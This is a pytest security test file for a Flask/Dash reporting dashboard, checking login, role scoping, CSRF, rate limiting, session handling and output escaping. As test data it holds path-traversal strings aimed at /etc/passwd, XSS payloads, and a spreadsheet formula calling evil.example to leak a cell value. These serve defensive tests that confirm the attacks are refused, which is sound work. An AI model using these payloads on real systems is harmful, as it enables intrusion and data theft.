"""Login, roles, program scope and hardening of the dashboard (issue 14), through the app's real
endpoints (Flask test client): every callback refuses an unauthenticated caller, a funder gets
no row-level or unrounded downloads, a forged payload for another program is refused, login
needs its CSRF token and is rate limited, download names cannot leave their folder, every
answer has security headers."""

from __future__ import annotations

import inspect
import json

import pytest

from etl import accounts
from pages import _access
from tests import access_helpers as ah
from tests.access_helpers import PW
from tests.dashboard_fixture import build_fixture_warehouse

USERS = {"admin1": ("admin", {}), "funder1": ("funder", {}),
         **{name: ("lead", {"programs": ["Bridges"]})
            for name in ("lead1", "lead2", "lead3", "brute1")}}


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory):
    return ah.with_accounts(tmp_path_factory.mktemp("access") / "warehouse.duckdb", USERS)


@pytest.fixture
def app_(warehouse, monkeypatch):
    return ah.dashboard(monkeypatch, warehouse)


@pytest.fixture
def client(app_):
    return app_.server.test_client()


def test_every_callback_is_classified(app_) -> None:
    """A new callback must say whether it reads the filters (and so the scope) or not."""
    app_.server.test_client().get("/_dash-dependencies")
    for entry in app_.app.callback_map.values():
        if "callback" not in entry:
            continue  # clientside
        name = _access._callback_name(entry["callback"])
        fn = inspect.unwrap(entry["callback"])
        reads = "filters_of" in inspect.getsource(fn)
        assert (reads or name in _access.WHOLE_PROGRAM or name in _access.UI_ONLY
                or name in _access.SCOPE_AWARE), name


def test_every_route_refuses_an_unauthenticated_caller(app_, client) -> None:
    client.get("/login")
    deps = client.get("/_dash-dependencies")
    assert deps.status_code == 401
    assert client.get("/_dash-layout").status_code == 401
    page = client.get("/outcomes?program=Bridges")
    assert page.status_code == 302 and page.headers["Location"].startswith("/login?next=")
    for output, entry in ah.callbacks(app_).items():
        r = ah.post(client, ah.body(output, entry))
        assert r.status_code == 401, (output, r.status_code)
    assert client.get("/_downloads/abc-k10/prepost_v1.csv").status_code == 401
    assert client.get("/assets/app.css").status_code == 200  # no data: public


def test_role_restricted_callbacks_refuse_a_funder(app_, client, monkeypatch) -> None:
    assert ah.login(client, "funder1").status_code == 302
    # Funders may download aggregates (rounded, tests/test_scoped_downloads.py): a role without
    # the capability a callback needs is refused on the server.
    caps = {**accounts.CAPABILITIES,
            "funder": accounts.CAPABILITIES["funder"] - {"export", "snapshot"}}
    with monkeypatch.context() as m:
        m.setattr(accounts, "CAPABILITIES", caps)
        cbs = ah.callbacks(app_)
        restricted = [o for o, e in cbs.items()
                      if _access.CALLBACK_RULES.get(_access._callback_name(e["callback"]))
                      and not accounts.can("funder", _access.CALLBACK_RULES[
                          _access._callback_name(e["callback"])])]
        assert restricted  # the Data page's download, the PDF snapshot
        for output in restricted:
            assert ah.post(client, ah.body(output, cbs[output])).status_code == 403
    # unrounded files, and row-level ones even rounded, are never a funder's
    for path in ("abc-k10/prepost_v1.csv", "abc-k10/scale_scores_v1.csv",
                 "abc-r5-k10/scale_scores_v1.csv"):
        assert client.get(f"/_downloads/{path}").status_code == 403, path
    assert _access.rounding_required.__doc__  # the hook helper S uses


def test_logged_in_page_and_logout(client) -> None:
    assert ah.login(client, "admin1").status_code == 302
    r = client.get("/")
    assert r.status_code == 200
    for h in ("X-Content-Type-Options", "X-Frame-Options", "Referrer-Policy",
              "Content-Security-Policy"):
        assert h in r.headers, h
    assert "unsafe-inline" not in r.headers["Content-Security-Policy"].split("script-src")[1] \
        .split(";")[0]
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
    assert client.get("/_dash-layout").status_code == 200
    client.get("/logout")
    assert client.get("/_dash-layout").status_code == 401


def _session_cookie(client) -> str | None:
    cookie = client.get_cookie("session")
    return cookie.value if cookie is not None else None


def test_login_starts_a_new_session(app_, client) -> None:
    """Session fixation: nothing of the session from before the login carries over (a value
    planted in it is gone), the cookie changes, and the old cookie does not authenticate."""
    client.get("/login")
    with client.session_transaction() as s:
        s["planted"] = "by someone else"
    before = _session_cookie(client)
    assert before
    assert ah.login(client, "admin1").status_code == 302
    after = _session_cookie(client)
    assert after and after != before
    with client.session_transaction() as s:
        assert "planted" not in s and s.get("_user_id", "").startswith("admin1|")
    assert client.get("/_dash-layout").status_code == 200
    old = app_.server.test_client()
    old.set_cookie("session", before)
    assert old.get("/_dash-layout").status_code == 401


def test_session_cookie_flags(client) -> None:
    r = ah.login(client, "admin1")
    cookie = r.headers.get("Set-Cookie", "")
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert "Secure" not in cookie  # plain http here; https (or EXCHANGE_IMPACT_SECURE_COOKIES=1)


def test_wrong_password_and_missing_csrf_refused(client) -> None:
    r = ah.login(client, "admin1", "not the password")
    assert r.status_code == 401 and "Wrong account name or password" in r.get_data(as_text=True)
    r = ah.login(client, "admin1", csrf=False)
    assert r.status_code == 400 and client.get("/_dash-layout").status_code == 401


def test_a_link_in_spanish_keeps_its_language_through_the_login(client) -> None:
    """The login a Spanish link leads to is in Spanish, and so is its form's answer: the
    redirect, the form's action and the page after a failed login keep `lang`."""
    import html
    import re

    r = client.get("/outcomes?lang=es", headers={"Accept-Language": "en"})
    assert r.status_code == 302 and r.headers["Location"].endswith("&lang=es"), r.headers
    page = client.get(r.headers["Location"], headers={"Accept-Language": "en"})
    text = page.get_data(as_text=True)
    assert '<html lang="es">' in text and "Contraseña" in text
    action = html.unescape(re.search(r'action="([^"]+)"', text).group(1))
    assert action.endswith("&lang=es") and "next=/outcomes" in action
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', text).group(1)
    wrong = client.post(action, data={"name": "admin1", "password": "nope",
                                      "csrf_token": token}, headers={"Accept-Language": "en"})
    answer = wrong.get_data(as_text=True)
    assert wrong.status_code == 401 and '<html lang="es">' in answer
    assert "Wrong account name or password" not in answer


def test_login_is_rate_limited(client) -> None:
    # brute1 is this test's own account: the limiter's memory lives as long as the app module,
    # so locking out a name other tests log in with would fail them for a minute.
    codes = [ah.login(client, "brute1", f"guess {i}").status_code for i in range(7)]
    assert codes[:5] == [401] * 5 and codes[5:] == [429, 429]
    assert ah.login(client, "brute1").status_code == 429  # even the right password, for now


def test_forged_payload_for_another_program_is_refused(app_) -> None:
    from analytics.read.filters import Filters

    c = app_.server.test_client()
    assert ah.login(c, "lead2").status_code == 302  # a lead of Bridges only
    cbs = ah.callbacks(app_)
    out = next(o for o, e in cbs.items()
               if _access._callback_name(e["callback"]) == "pages.overview.cards")
    other = Filters(program=("Horizons",))
    r = ah.post(c, ah.body(out, cbs[out], {"filters": other.to_dict(), "query": other.to_query()}))
    assert r.status_code == 403 and b"outside your account" in r.data
    mine = Filters(program=("Bridges",))
    r = ah.post(c, ah.body(out, cbs[out], {"filters": mine.to_dict(), "query": mine.to_query()}))
    assert r.status_code == 200
    # no choice at all: the lead's own scope, never the whole program
    from flask_login import login_user

    with app_.server.test_request_context():
        login_user(_access._User(accounts.get_user(_access._warehouse(), "lead2")))
        assert _access.scope_filters(Filters()).program == ("Bridges",)


def test_scoped_user_gets_a_note_for_whole_program_statistics(app_, client) -> None:
    cbs = ah.callbacks(app_)
    out = next(o for o, e in cbs.items()
               if _access._callback_name(e["callback"]) == "pages.outcomes.sensitivity")
    body = ah.body(out, cbs[out])
    body["outputs"] = {"id": "outcomes-sensitivity", "property": "children"}
    c = app_.server.test_client()
    assert ah.login(c, "lead3").status_code == 302
    r = ah.post(c, body)
    assert r.status_code == 200 and "issue 17" in r.get_data(as_text=True)


def test_scoped_user_gets_the_model_comparison_and_balance_of_their_programs(app_) -> None:
    """Issue 17: these are computed for any filters now, so a scoped lead gets them for their
    own programs (fitted on request), not the whole-program note."""
    cbs = ah.callbacks(app_)
    c = app_.server.test_client()
    assert ah.login(c, "lead3").status_code == 302
    said = {}
    for name in ("model", "adjusted", "balance"):
        assert f"pages.outcomes.{name}" not in _access.WHOLE_PROGRAM
        out = next(o for o, e in cbs.items()
                   if _access._callback_name(e["callback"]) == f"pages.outcomes.{name}")
        body = ah.body(out, cbs[out])
        body["outputs"] = {"id": f"outcomes-{name}", "property": "children"}
        r = ah.post(c, body)
        said[name] = r.get_data(as_text=True)
        assert r.status_code == 200 and _access.SCOPE_NOTE not in said[name], name
    assert "Filtered participants' mixed model" in said["model"]


@pytest.mark.parametrize("path", ["/_downloads/..%2F..%2Fetc/passwd",
                                  "/_downloads/abc-k10/..%2Fpseudonym.key",
                                  "/_downloads/..%2Faccounts.sqlite/x.pdf",
                                  "/_downloads/abc-k10/%2Fetc%2Fpasswd"])
def test_download_names_cannot_escape_their_folder(client, path) -> None:
    assert ah.login(client, "admin1").status_code == 302
    r = client.get(path)
    # refused, or not the download route at all (Dash's page shell): never a file
    assert r.status_code in (400, 403, 404) or b"_dash-config" in r.data, r.status_code
    assert "attachment" not in r.headers.get("Content-Disposition", "")
    assert b"root:" not in r.data and b"argon2" not in r.data


def test_no_accounts_serves_loopback_only(tmp_path, monkeypatch) -> None:
    wh = build_fixture_warehouse(tmp_path / "warehouse.duckdb")
    app_module = ah.dashboard(monkeypatch, wh)

    c = app_module.server.test_client()
    assert c.get("/").status_code == 200
    remote = c.get("/", environ_base={"REMOTE_ADDR": "10.1.2.3"})
    assert remote.status_code == 403 and b"No accounts" in remote.data
    proxied = c.get("/", headers={"X-Forwarded-For": "10.1.2.3"})
    assert proxied.status_code == 403
    assert app_module._access.start_refusal("0.0.0.0")
    assert app_module._access.start_refusal("127.0.0.1") is None


EVIL = '<img src=x onerror="alert(1)"><script>alert(2)</script>'


def test_html_in_names_is_text(tmp_path, monkeypatch) -> None:
    """Names are user data: the filter bar gets them as plain strings (React renders a string as
    text), and no page lets HTML through (`dangerously_allow_html`, Markdown from data)."""
    from pathlib import Path

    import duckdb

    from etl import schema

    wh = build_fixture_warehouse(tmp_path / "warehouse.duckdb")
    con = duckdb.connect(str(wh))
    con.execute(f'UPDATE "{schema.EXCHANGES.name}" SET name = ?', [EVIL])
    con.execute(f'UPDATE "{schema.CLUSTERS.name}" SET name = ?', [EVIL])
    con.close()
    app_module = ah.dashboard(monkeypatch, wh)

    c = app_module.server.test_client()
    cbs = ah.callbacks(app_module)
    out = next(o for o, e in cbs.items()
               if _access._callback_name(e["callback"]) == "pages._ui.sync_filters")
    r = ah.post(c, ah.body(out, cbs[out]))
    assert r.status_code == 200
    resp = r.get_json()["response"]
    labels = [o["label"] for o in resp["filter-exchange"]["options"]]
    assert labels and all(lbl == EVIL for lbl in labels)  # a string, not a component
    pages = Path(__file__).resolve().parents[1] / "pages"
    for page in pages.glob("*.py"):
        assert "dangerously_allow_html" not in page.read_text(), page


def test_filter_options_limited_to_the_scope(app_) -> None:
    c = app_.server.test_client()
    assert ah.login(c, "lead3").status_code == 302
    cbs = ah.callbacks(app_)
    out = next(o for o, e in cbs.items()
               if _access._callback_name(e["callback"]) == "pages._ui.sync_filters")
    r = ah.post(c, ah.body(out, cbs[out]))
    assert r.status_code == 200
    programs = [o["value"] for o in r.get_json()["response"]["filter-program"]["options"]]
    assert programs == ["Bridges"]


def test_trusted_header_only_when_configured(app_, monkeypatch) -> None:
    c = app_.server.test_client()
    hdr = {"X-Remote-User": "admin1"}
    assert c.get("/_dash-layout", headers=hdr).status_code == 401  # not configured: ignored
    monkeypatch.setenv(_access.TRUSTED_HEADER_ENV, "X-Remote-User")
    assert c.get("/_dash-layout", headers=hdr).status_code == 200
    assert c.get("/_dash-layout", headers={"X-Remote-User": "nobody"}).status_code == 401


def test_password_reset_and_removal_end_existing_sessions(app_, warehouse) -> None:
    """A session cookie carries the account's session generation: `users reset` or `remove`
    logs out every browser that logged in before it, at its next request."""
    accounts.add_user(warehouse, "temp1", "lead", PW)
    accounts.add_user(warehouse, "temp2", "lead", PW)
    try:
        a, b = app_.server.test_client(), app_.server.test_client()
        assert ah.login(a, "temp1").status_code == 302 and ah.login(b, "temp2").status_code == 302
        assert a.get("/_dash-layout").status_code == 200
        assert b.get("/_dash-layout").status_code == 200
        accounts.reset_password(warehouse, "temp1", "another good password")
        assert a.get("/_dash-layout").status_code == 401  # the old session ended
        assert b.get("/_dash-layout").status_code == 200  # others keep theirs
        assert ah.login(a, "temp1", "another good password").status_code == 302
        assert a.get("/_dash-layout").status_code == 200  # a new login works
        accounts.remove_user(warehouse, "temp2")
        accounts.add_user(warehouse, "temp2", "admin", PW)  # same name, same password, new
        assert b.get("/_dash-layout").status_code == 401
    finally:
        for name in ("temp1", "temp2"):
            if accounts.get_user(warehouse, name):
                accounts.remove_user(warehouse, name)


def _warehouse_with_a_private_cluster(path):
    """The fixture plus cluster C9 whose only exchange X9 is in Horizons, with an institution in
    NOR that takes part in X9 alone (ISL's I99 already takes part in Horizons' X8 only)."""
    import duckdb

    from etl import schema

    wh = build_fixture_warehouse(path)
    con = duckdb.connect(str(wh))
    con.execute(f"""INSERT INTO "{schema.CLUSTERS.name}" (cluster_id, name, kind)
                    VALUES ('C9', 'Hidden Cluster', 'network')""")
    con.execute(f"""INSERT INTO "{schema.INSTITUTIONS.name}"
                    (institution_id, name, country, cluster_id, timezone, kind)
                    VALUES ('I98', 'Oslo School', 'NOR', 'C9', 'Europe/Oslo', 'school')""")
    con.execute(f"""INSERT INTO "{schema.EXCHANGES.name}" (exchange_id, name, program,
                    cluster_id, modality, setting, purpose, language, start_date, end_date)
                    SELECT 'X9', 'Secret Exchange', 'Horizons', 'C9', modality, setting,
                           purpose, language, start_date, end_date
                    FROM "{schema.EXCHANGES.name}" WHERE exchange_id = 'X6'""")
    con.execute(f"""INSERT INTO "{schema.PARTNERSHIPS.name}" (partnership_id, exchange_id,
                    institution_a, institution_b, started_on)
                    SELECT 'P99', 'X9', 'I98', 'I11', started_on
                    FROM "{schema.PARTNERSHIPS.name}" LIMIT 1""")
    con.close()
    accounts.add_user(wh, "bridges1", "lead", PW, programs=["Bridges"])
    accounts.add_user(wh, "c9", "lead", PW, clusters=["C9"])
    accounts.add_user(wh, "all1", "admin", PW)
    return wh


def _filter_bar(app_module, name: str) -> dict[str, list[str]]:
    c = app_module.server.test_client()
    assert ah.login(c, name).status_code == 302
    cbs = ah.callbacks(app_module)
    out = next(o for o, e in cbs.items()
               if _access._callback_name(e["callback"]) == "pages._ui.sync_filters")
    r = ah.post(c, ah.body(out, cbs[out]))
    assert r.status_code == 200
    resp = r.get_json()["response"]
    return {f: [o["value"] for o in resp[f"filter-{f}"]["options"]]
            for f in ("program", "cluster", "exchange", "country")}


def test_scoped_filter_bar_names_only_the_scope(tmp_path, monkeypatch) -> None:
    """Issue 14: a program lead's filter bar offers the clusters, exchanges and countries of
    its programs only; other programs' names never reach its browser."""
    wh = _warehouse_with_a_private_cluster(tmp_path / "warehouse.duckdb")
    app_module = ah.dashboard(monkeypatch, wh)

    everything = _filter_bar(app_module, "all1")
    assert "C9" in everything["cluster"] and "X9" in everything["exchange"]
    assert {"NOR", "ISL"} <= set(everything["country"])

    bridges = _filter_bar(app_module, "bridges1")
    assert bridges["program"] == ["Bridges"]
    assert sorted(bridges["exchange"]) == ["X1", "X2", "X3", "X4", "X5"]
    assert "C9" not in bridges["cluster"] and sorted(bridges["cluster"]) == ["C1", "C2", "C3",
                                                                             "C4"]
    assert "NOR" not in bridges["country"] and "ISL" not in bridges["country"]

    c9 = _filter_bar(app_module, "c9")
    assert c9 == {"program": ["Horizons"], "cluster": ["C9"], "exchange": ["X9"],
                  "country": ["NOR"]}


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_formula_injection_in_names_is_neutralised_in_exports(tmp_path) -> None:
    """Attack: an institution, exchange, cluster or program named like a spreadsheet formula.
    Names stay out of the exports (ids only); text that does reach them (the program, an
    exchange's purpose) starts with a quote in CSV and XLSX, and no XLSX cell is a formula."""
    import csv

    import duckdb
    import openpyxl

    from analytics.outputs import cli
    from etl import schema
    from tests.analytics_fixture import run

    wh = build_fixture_warehouse(tmp_path / "warehouse.duckdb")
    con = duckdb.connect(str(wh))
    con.execute(f'UPDATE "{schema.INSTITUTIONS.name}" SET name = ?', ["+" + FORMULA[1:]])
    con.execute(f'UPDATE "{schema.CLUSTERS.name}" SET name = ?', ["@" + FORMULA[1:]])
    con.execute(f'UPDATE "{schema.EXCHANGES.name}" SET name = ?', [FORMULA])
    con.execute(f"UPDATE \"{schema.EXCHANGES.name}\" SET program = ? WHERE program = 'Horizons'",
                [FORMULA])
    con.execute(f'UPDATE "{schema.EXCHANGES.name}" SET purpose = ?', ["-2+3\tcmd"])
    con.close()
    assert cli.main(["refresh", "--warehouse", str(wh)]) == 0  # results over the new names
    dangerous = tuple("=+-@\t\r")
    for fmt in ("csv", "xlsx"):
        out = tmp_path / fmt
        r = run("analytics", "export", "--all", "--format", fmt, "--out", str(out),
                "--warehouse", str(wh))
        assert r.returncode == 0, r.stderr
        cells: list[object] = []
        if fmt == "csv":
            for f in out.glob("*.csv"):
                with open(f, encoding="utf-8-sig", newline="") as fh:
                    cells += [v for row in csv.reader(fh) for v in row]
        else:
            for f in out.glob("*.xlsx"):
                wb = openpyxl.load_workbook(f)
                for ws in wb.worksheets:
                    for row in ws.iter_rows():
                        assert all(c.data_type != "f" for c in row), (f.name, ws.title)
                        cells += [c.value for c in row]
        texts = [v for v in cells if isinstance(v, str)]
        assert "'" + FORMULA in texts, fmt  # the program's cells, quoted
        assert "'-2+3\tcmd" in texts, fmt  # the purpose (moderation levels), quoted
        for v in texts:
            assert not v.startswith(dangerous) or _is_number(v), (fmt, v)
        assert not any("evil.example" in v and not v.startswith("'") for v in texts), fmt


def _is_number(v: str) -> bool:
    """Numbers written as text in CSV ("-0.25", "-inf") are numbers, not formulas."""
    try:
        float(v)
    except ValueError:
        return False
    return True


def test_html_in_institution_names_is_escaped_in_figures(tmp_path, monkeypatch) -> None:
    """Attack: markup in an institution's name. Plotly renders a subset of HTML (<a href>, <b>)
    in hover text and labels; the partnership network's answer carries the name escaped."""
    import html as html_lib

    import duckdb

    from etl import schema

    evil = EVIL + '<a href="javascript:alert(3)">x</a>'
    wh = build_fixture_warehouse(tmp_path / "warehouse.duckdb")
    con = duckdb.connect(str(wh))
    con.execute(f'UPDATE "{schema.INSTITUTIONS.name}" SET name = ?', [evil])
    con.close()
    app_module = ah.dashboard(monkeypatch, wh)

    c = app_module.server.test_client()
    cbs = ah.callbacks(app_module)
    out = next(o for o, e in cbs.items()
               if _access._callback_name(e["callback"]) == "pages.partnerships.network")
    r = ah.post(c, ah.body(out, cbs[out], {"filters": {}, "query": ""}))
    assert r.status_code == 200
    raw = r.get_data(as_text=True)
    assert "<script" not in raw and "<a href" not in raw and "<img" not in raw
    fig = r.get_json()["response"]["partnerships-network"]["figure"]
    texts = [t for tr in fig["data"] if tr.get("name") == "institutions" for t in tr["text"]]
    assert texts and set(texts) == {html_lib.escape(evil, quote=False)}


def _poll(pending: object) -> dict:
    return ah.download_body("data-download-poll", None, None, pending, None)


def _suppressed_rows(data: bytes) -> int:
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    return sum(bool(r["suppressed"]) for r in rows)


def test_researchers_download_unsuppressed_tables_others_never(app_, warehouse) -> None:
    """Issue 14: a researcher (or admin) may ask the Data page for the unsuppressed variant;
    a lead asking gets a refusal beside the button, and the unsuppressed file's URL answers
    403 to leads and funders even when they know it."""
    from flask_login import login_user

    from pages import data

    for name, role, progs in (("res1", "researcher", ()), ("resb", "researcher", ["Bridges"])):
        if accounts.get_user(warehouse, name) is None:
            accounts.add_user(warehouse, name, role, PW, programs=progs)
    res = app_.server.test_client()
    assert ah.login(res, "res1").status_code == 302
    _got, k10, _ = ah.download(res, "prepost", unsuppressed=[])
    got, k0, _ = ah.download(res, "prepost", unsuppressed=["k0"])
    url = got["data-download-file"]["data"]["url"]
    assert "-k0/" in url and "-k10/" not in url
    assert _suppressed_rows(k10) > 0 and _suppressed_rows(k0) == 0  # small groups included
    assert any(r[1] == "res1" and r[2] == "download" and "-k0/" in r[3]
               for r in accounts.audit_rows(warehouse, 20))

    lead = app_.server.test_client()
    assert ah.login(lead, "lead3").status_code == 302  # scoped (Bridges)
    admin_lead = "lead_all"
    if accounts.get_user(warehouse, admin_lead) is None:
        accounts.add_user(warehouse, admin_lead, "lead", PW)
    lead_all = app_.server.test_client()
    assert ah.login(lead_all, admin_lead).status_code == 302
    got, file_, _ = ah.download(lead_all, "prepost", unsuppressed=["k0"])
    assert file_ is None and "unsuppressed tables are for researchers" in json.dumps(got)
    forged = {"table": "prepost", "fmt": "csv", "polls": 1, "k": 0}  # a poll made up
    got = ah.post(lead_all, _poll(forged)).get_json()["response"]
    assert "data-download-file" not in got and "unsuppressed tables are for" in json.dumps(got)
    for bad in ({**forged, "k": "0"}, {**forged, "k": True}, {**forged, "k": 3}):
        assert ah.post(lead_all, _poll(bad)).status_code == 400
    assert ah.post(lead_all, ah.download_body("data-download-button", "prepost",
                                                  unsuppressed=["k0", "x"])).status_code == 400
    _got, plain, _ = ah.download(lead_all, "prepost", unsuppressed=[])
    assert plain is not None and _suppressed_rows(plain) > 0  # the suppressed one still comes
    for c in (lead, lead_all):
        assert c.get(url).status_code == 403
    funder = app_.server.test_client()
    assert ah.login(funder, "funder1").status_code == 302
    assert funder.get(url).status_code == 403
    scoped = app_.server.test_client()
    assert ah.login(scoped, "resb").status_code == 302
    assert scoped.get(url).status_code == 403  # that file holds every program
    assert res.get(url).status_code == 200

    # the switch is offered to those who may use it only
    for name, offered in (("res1", True), ("admin1", True), ("lead_all", False),
                          ("resb", True), ("funder1", False)):
        with app_.server.test_request_context():
            login_user(_access._User(accounts.get_user(warehouse, name)))
            assert data.may_unsuppress() is offered, name
            row = data._unsuppressed_switch()
            assert (row.style is None) is offered, name
